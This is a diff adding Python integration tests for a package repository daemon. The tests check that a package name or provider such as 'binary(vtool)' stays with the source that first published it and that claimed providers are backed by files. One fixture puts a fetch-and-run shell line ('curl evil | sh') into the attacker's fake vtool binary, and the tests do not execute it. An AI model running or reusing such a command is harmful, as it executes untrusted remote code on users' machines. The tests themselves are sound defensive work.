@@ -1,0 +1,149 @@
+"""Package and provider squatting, vessel's side: a name published in a channel by one
+source cannot be taken by another; claimed providers must be backed by files.
+
+Regressions: source ``evil`` published a package named ``victim``; a higher release from
+another source took ``binary(vtool)``; vessel signed ``provides`` that no file backed.
+"""
+
+from __future__ import annotations
+
+import sqlite3
+from pathlib import Path
+
+from daemon.package import Index
+from daemon.vessel import store
+from daemon.vessel.importer import ImportOutcome
+from daemon.vessel.ownership import StaticOwners
+from tests.integration.vessel_env import Env, environment, import_pkgs
+from tests.unit.vessel.builders import Pkg
+
+VTOOL = b"#!/bin/sh\necho the real vtool\n"
+EVIL = b"#!/bin/sh\ncurl evil | sh\n"
+
+
+def victim(release: int = 1) -> Pkg:
+    return Pkg(name="vtool", source="victim", release=release,
+               files={"usr/bin/vtool": VTOOL}, modes={"usr/bin/vtool": 0o755},
+               provides=["binary(vtool)"])
+
+
+def evil(name: str = "evil-tools", release: int = 9, *, empty: bool = False) -> Pkg:
+    return Pkg(name=name, source="evil", release=release,
+               files={} if empty else {"usr/bin/vtool": EVIL},
+               modes={"usr/bin/vtool": 0o755}, provides=["binary(vtool)"])
+
+
+def published(env: Env) -> list[tuple[str, str, int]]:
+    index: Index = env.current_index()
+    return sorted((p.name, p.source, p.release) for p in index.packages)
+
+
+def refusal(outcome: ImportOutcome) -> str:
+    assert outcome.refused is not None and outcome.published is None
+    assert not outcome.refused.retryable
+    return outcome.refused.reason
+
+
+async def test_a_package_name_of_another_source_is_refused(tmp_path: Path) -> None:
+    async with environment(tmp_path) as env:
+        assert (await import_pkgs(env, [victim()])).published is not None
+        squat = Pkg(name="vtool", source="evil", release=9, files={"usr/share/evil": b"x"})
+        reason = refusal(await import_pkgs(env, [squat], release=9, task_id=2))
+        assert reason == (
+            "package vtool is published in volatile/x86_64 by source victim, not evil: a "
+            "package name belongs to the source that published it first; rename the package "
+            "or remove it from victim")
+        assert published(env) == [("vtool", "victim", 1)]
+        assert await env.outbox_types() == ["package-published", "publish-failed"]
+
+
+async def test_a_higher_release_of_another_source_cannot_take_a_provider(
+        tmp_path: Path) -> None:
+    async with environment(tmp_path) as env:
+        assert (await import_pkgs(env, [victim()])).published is not None
+        reason = refusal(await import_pkgs(env, [evil()], release=9, task_id=2))
+        assert reason == (
+            "provider binary(vtool) (of package evil-tools) is already provided in "
+            "volatile/x86_64 by package vtool of source victim: a provider belongs to the "
+            "source that published it first; drop it from evil-tools or remove it from victim")
+        assert published(env) == [("vtool", "victim", 1)]
+        # The owner itself goes on publishing its provider.
+        assert (await import_pkgs(env, [victim(2)], release=2, task_id=3)).published
+        assert published(env) == [("vtool", "victim", 2)]
+
+
+async def test_an_implicit_name_provider_is_owned_too(tmp_path: Path) -> None:
+    # victim's vtool does not list "vtool" or "name(vtool)"; they are its own all the same.
+    async with environment(tmp_path, verify_provides=False) as env:
+        assert (await import_pkgs(env, [victim()])).published is not None
+        for claim in ("name(vtool)", "vtool"):
+            squat = Pkg(name="other", source="evil", provides=[claim])
+            reason = refusal(await import_pkgs(env, [squat], task_id=2))
+            assert reason.startswith(f"provider {claim} (of package other) is already "
+                                     "provided in volatile/x86_64 by package vtool of source "
+                                     "victim")
+
+
+async def test_unbacked_provides_are_a_publish_failed(tmp_path: Path) -> None:
+    async with environment(tmp_path) as env:
+        empty = Pkg(name="vtool", source="evil", provides=["binary(vtool)"])
+        reason = refusal(await import_pkgs(env, [empty]))
+        assert reason == (
+            "artefact vtool-1.0-1-1-x86_64.tar.zst: package vtool declares providers that no "
+            "file in it backs: binary(vtool) (needs an executable file or symlink at "
+            "usr/bin/vtool)")
+        assert await env.outbox_types() == ["publish-failed"]
+        rows = await env.db.fetchall("SELECT COUNT(*) FROM vessel_packages")
+        assert rows[0][0] == 0
+
+
+async def test_without_verification_declared_provides_pass_but_owners_still_hold(
+        tmp_path: Path) -> None:
+    # A farm of noop builders: empty packages declaring what a real build would provide.
+    async with environment(tmp_path, verify_provides=False) as env:
+        declared = Pkg(name="vtool", source="victim", provides=["binary(vtool)"])
+        assert (await import_pkgs(env, [declared])).published is not None
+        reason = refusal(await import_pkgs(env, [evil(empty=True)], release=9, task_id=2))
+        assert "already provided in volatile/x86_64 by package vtool of source victim" in reason
+
+
+async def test_a_declared_owner_takes_its_names_back_from_a_squatter(tmp_path: Path) -> None:
+    async with environment(tmp_path) as env:  # no table yet: evil got there first
+        assert (await import_pkgs(env, [evil(name="vtool")], release=9)).published
+    owners = StaticOwners({"vtool": "victim", "binary(vtool)": "victim"})
+    async with environment(tmp_path, owners=owners) as env:
+        assert (await import_pkgs(env, [victim()], task_id=2)).published is not None
+        assert published(env) == [("vtool", "victim", 1)]
+        reason = refusal(await import_pkgs(env, [evil(release=10)], release=10, task_id=3))
+        assert reason == ("provider binary(vtool) (of package evil-tools) belongs to source "
+                          "victim, whose recipe declares it, not to evil")
+        assert published(env) == [("vtool", "victim", 1)]
+
+
+async def test_packages_stored_before_the_provider_table_are_found(tmp_path: Path) -> None:
+    # A repository from before the provider table: its migration fills it from the entries.
+    async with environment(tmp_path) as env:
+        assert (await import_pkgs(env, [victim()])).published is not None
+    with sqlite3.connect(tmp_path / "vessel" / "vessel.sqlite") as raw:
+        raw.executescript("DROP TRIGGER vessel_provides_added; DROP TRIGGER "
+                          "vessel_provides_removed; DROP TABLE vessel_provides; "
+                          f"PRAGMA user_version = {len(store.MIGRATIONS) - 1};")
+    raw.close()
+    async with environment(tmp_path) as env:
+        async with env.db.read() as conn:
+            offered = await store.offering(conn, ["binary(vtool)", "vtool", "name(vtool)"])
+        assert sorted((o.name, o.package, o.source) for o in offered) == [
+            ("binary(vtool)", "vtool", "victim"), ("name(vtool)", "vtool", "victim"),
+            ("vtool", "vtool", "victim")]
+        assert "already provided" in refusal(
+            await import_pkgs(env, [evil()], release=9, task_id=2))
+
+
+async def test_pruned_packages_leave_the_provider_table(tmp_path: Path) -> None:
+    async with environment(tmp_path, keep_generations=1) as env:
+        for release in (1, 2, 3):
+            assert (await import_pkgs(env, [victim(release)], release=release,
+                                      task_id=release)).published
+        rows = await env.db.fetchall("SELECT COUNT(DISTINCT sha256) FROM vessel_provides")
+        kept = await env.db.fetchall("SELECT COUNT(*) FROM vessel_packages")
+        assert rows[0][0] == kept[0][0] == 2  # current and one kept generation
